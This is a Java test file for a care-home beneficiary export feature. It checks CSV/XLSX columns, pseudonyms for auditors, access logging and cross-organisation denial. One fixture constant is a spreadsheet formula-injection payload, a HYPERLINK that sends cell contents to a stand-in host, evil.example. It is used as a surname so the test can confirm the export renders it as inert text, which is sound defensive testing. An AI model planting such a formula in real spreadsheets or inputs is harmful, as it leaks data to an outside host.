package org.socle.beneficiary.export;

import java.time.Clock;
import java.time.LocalDate;
import java.util.List;

import org.dhatim.fastexcel.reader.Cell;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.socle.QueryCount;
import org.socle.SocleTest;
import org.socle.beneficiary.BeneficiaryCategory;
import org.socle.beneficiary.BeneficiaryFixtures;
import org.socle.beneficiary.DischargeReason;
import org.socle.beneficiary.LegalBasis;
import org.socle.beneficiary.ReferralSource;
import org.socle.beneficiary.Sex;
import org.socle.beneficiary.privacy.Pseudonyms;
import org.socle.establishment.EstablishmentFixtures;
import org.socle.identity.IdentityFixtures;
import org.socle.identity.SocleUser;
import org.socle.shared.export.ExportFiles;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.web.servlet.MockMvc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * An establishment's beneficiary list as CSV and XLSX: the list's filters, names for the
 * organisation's manager, pseudonyms alone for auditors, every exported person in the
 * access log.
 */
@SocleTest
class ListExportTests {

	static final String FORMULA = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"clic\")";

	@Autowired
	MockMvc mvc;

	@Autowired
	IdentityFixtures identity;

	@Autowired
	EstablishmentFixtures establishments;

	@Autowired
	BeneficiaryFixtures beneficiaries;

	@Autowired
	Pseudonyms pseudonyms;

	@Autowired
	JdbcTemplate jdbc;

	@Autowired
	Clock clock;

	long home;

	long amina;

	long karim;

	long gone;

	@BeforeEach
	void people() {
		LocalDate today = LocalDate.now(this.clock);
		this.home = this.establishments
			.establishment("LX Foyer " + System.nanoTime(), this.identity.organisation("Test Org A"))
			.id();
		this.amina = this.beneficiaries.beneficiary(this.home, "Alaoui")
			.firstName("Amina")
			.sex(Sex.F)
			.arabicNames("العلوي", "أمينة")
			.born(today.minusYears(10).minusDays(1))
			.category(BeneficiaryCategory.CHILD)
			.admitted(LocalDate.of(2025, 3, 1), ReferralSource.FAMILY, LegalBasis.PLACEMENT_DECISION)
			.create();
		this.karim = this.beneficiaries.beneficiary(this.home, FORMULA)
			.firstName("Karim")
			.sex(Sex.M)
			.born(today.minusYears(12))
			.admitted(LocalDate.of(2025, 4, 1), ReferralSource.FAMILY, LegalBasis.PLACEMENT_DECISION)
			.create();
		this.gone = this.beneficiaries.beneficiary(this.home, "Berrada")
			.firstName("Sara")
			.sex(Sex.F)
			.born(today.minusYears(15))
			.admitted(LocalDate.of(2024, 1, 1), ReferralSource.FAMILY, LegalBasis.PLACEMENT_DECISION)
			.discharged(LocalDate.of(2025, 1, 31), DischargeReason.FAMILY_REINTEGRATION)
			.create();
	}

	@Test
	void theManagerGetsTheListsLinesWithNamesAndTranslatedColumns() throws Exception {
		List<List<String>> rows = csv(this.identity.managerA(), "");
		assertThat(rows.get(0)).containsExactly("Identifiant", "Nom", "Nom et prénom (arabe)", "Sexe", "Âge",
				"Catégorie", "Date d’admission", "Date de sortie", "Motif de sortie", "Au-delà de la capacité",
				"Référence (jugement, décision)", "Anonymisé");
		assertThat(rows).hasSize(3);
		List<String> amina = rows.stream().filter((row) -> row.get(1).equals("Alaoui Amina")).findFirst().orElseThrow();
		assertThat(amina).containsExactly(String.valueOf(this.amina), "Alaoui Amina", "العلوي أمينة", "Femme", "10",
				"Enfant", "2025-03-01", "", "", "Non", "", "Non");
		assertThat(csv(this.identity.managerA(), "q=Alaoui&lang=en").get(1)).contains("Female", "Child", "No");

		assertThat(names(this.identity.managerA(), "status=DISCHARGED")).containsExactly("Berrada Sara");
		assertThat(names(this.identity.managerA(), "status=ALL")).hasSize(3);
		assertThat(names(this.identity.managerA(), "q=alao")).containsExactly("Alaoui Amina");
		assertThat(csv(this.identity.managerA(), "status=DISCHARGED").get(1)).contains("2025-01-31",
				"Réinsertion familiale");
	}

	@Test
	void auditorsGetPseudonymsAndNeitherNamesNorInitials() throws Exception {
		List<List<String>> rows = csv(this.identity.auditor(), "status=ALL&q=Alaoui");
		assertThat(rows.get(0)).containsExactly("Pseudonyme", "Sexe", "Âge", "Catégorie", "Date d’admission",
				"Date de sortie", "Motif de sortie", "Au-delà de la capacité");
		assertThat(rows).as("the search is the manager's: ignored").hasSize(4);
		assertThat(rows.stream().skip(1).map((row) -> row.get(0))).containsExactlyInAnyOrder(
				this.pseudonyms.of(this.amina), this.pseudonyms.of(this.karim), this.pseudonyms.of(this.gone));
		String all = String.join(";", rows.stream().flatMap(List::stream).toList());
		assertThat(all).doesNotContain("Alaoui", "Amina", "العلوي", "HYPERLINK", "Karim", "Berrada")
			.doesNotContain(";AA;", ";KA;", "(AA)");

		byte[] xlsx = download(this.identity.auditor(), "xlsx", "status=ALL");
		String sheet = ExportFiles.xlsxPart(xlsx, "xl/worksheets/sheet1.xml");
		assertThat(sheet).contains(this.pseudonyms.of(this.amina)).doesNotContain("Alaoui", "Amina", "العلوي");
		assertThat(csv(this.identity.admin(), "").get(0).get(0)).isEqualTo("Pseudonyme");
	}

	@Test
	void everyExportedPersonIsWrittenToTheAccessLog() throws Exception {
		download(this.identity.auditor(), "csv", "");
		assertThat(logged("t-auditor", "csv")).containsExactlyInAnyOrder(this.amina, this.karim);
		download(this.identity.managerA(), "xlsx", "status=DISCHARGED");
		assertThat(logged("t-manager-a", "xlsx")).containsExactly(this.gone);
	}

	@Test
	void anotherOrganisationsManagerGetsNotFoundAndNothingIsLogged() throws Exception {
		this.mvc
			.perform(get("/establishments/{id}/beneficiaries/export.csv", this.home)
				.with(user(this.identity.managerB())))
			.andExpect(status().isNotFound());
		this.mvc
			.perform(get("/establishments/{id}/beneficiaries/export.pdf", this.home)
				.with(user(this.identity.managerA())))
			.andExpect(status().isNotFound());
		assertThat(logged("t-manager-b", "csv")).isEmpty();
	}

	@Test
	void aNameTypedAsAFormulaArrivesAsInertText() throws Exception {
		assertThat(names(this.identity.managerA(), "q=hyperlink")).containsExactly("'" + FORMULA + " Karim");
		List<List<Cell>> rows = ExportFiles.xlsx(download(this.identity.managerA(), "xlsx", "q=hyperlink"));
		assertThat(rows.get(1).get(1).asString()).isEqualTo("'" + FORMULA + " Karim");
	}

	@Test
	void theExportRunsTheSameFewStatementsWhateverItsSize() throws Exception {
		long few = count();
		for (int i = 0; i < 20; i++) {
			this.beneficiaries.beneficiary(this.home, "Nombreux " + i)
				.admitted(LocalDate.of(2025, 5, 1), ReferralSource.FAMILY, LegalBasis.PLACEMENT_DECISION)
				.create();
		}
		assertThat(count()).as("access, the rows, one access-log insert per batch")
			.isEqualTo(few)
			.isLessThanOrEqualTo(4);
	}

	@Test
	void theListLinksToItsExportsWithItsFilters() throws Exception {
		this.mvc
			.perform(get("/establishments/{id}/beneficiaries?status=ALL&page=1", this.home)
				.with(user(this.identity.managerA())))
			.andExpect(content().string(
					containsString("href=\"/establishments/" + this.home + "/beneficiaries/export.xlsx?status=ALL\"")));
	}

	private long count() throws Exception {
		return QueryCount.of(this.mvc,
				get("/establishments/{id}/beneficiaries/export.csv", this.home).with(user(this.identity.auditor())));
	}

	private List<Long> logged(String username, String details) {
		return this.jdbc.queryForList("""
				SELECT beneficiary_id FROM beneficiary_access_log
				WHERE establishment_id = ? AND username = ? AND action = 'EXPORT_LIST' AND details = ?""", Long.class,
				this.home, username, details);
	}

	private List<String> names(SocleUser user, String query) throws Exception {
		return csv(user, query).stream().skip(1).map((row) -> row.get(1)).toList();
	}

	private List<List<String>> csv(SocleUser user, String query) throws Exception {
		return ExportFiles.csv(download(user, "csv", query));
	}

	private byte[] download(SocleUser user, String extension, String query) throws Exception {
		return this.mvc
			.perform(get("/establishments/" + this.home + "/beneficiaries/export." + extension + "?" + query)
				.with(user(user)))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsByteArray();
	}

}
